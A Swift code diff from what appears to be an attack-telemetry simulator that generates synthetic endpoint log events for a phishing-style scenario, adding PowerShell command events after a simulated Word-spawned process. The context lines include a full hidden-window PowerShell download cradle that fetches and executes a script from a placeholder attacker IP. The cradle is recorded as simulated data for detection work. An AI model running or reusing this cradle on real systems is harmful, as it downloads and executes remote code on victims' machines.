@@ -84,6 +84,18 @@ extension Simulator {
         time += Int64(random.int(3...20)) * DateTimeTicks.perSecond
         let cradle = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://\(Self.attackerIP)/a.ps1')\""
         let powershell = launch(Binaries.powershell, cradle, parent: word, at: time, on: victim, into: &day)
+        for (offset, command) in ["New-Object", "DownloadString", "Invoke-Expression"].enumerated() {
+            day.add(
+                "DeviceEvents",
+                at: time + Int64(offset + 1) * DateTimeTicks.perSecond,
+                device: device,
+                process: powershell,
+                [
+                    ("ActionType", .string("PowerShellCommand")), ("AdditionalFields", .string(#"{"Command":"\#(command)"}"#)),
+                    ("ReportId", .int(reportId(device))),
+                ]
+            )
+        }
         day.add(
             "DeviceNetworkEvents",
             at: time + 2 * DateTimeTicks.perSecond,
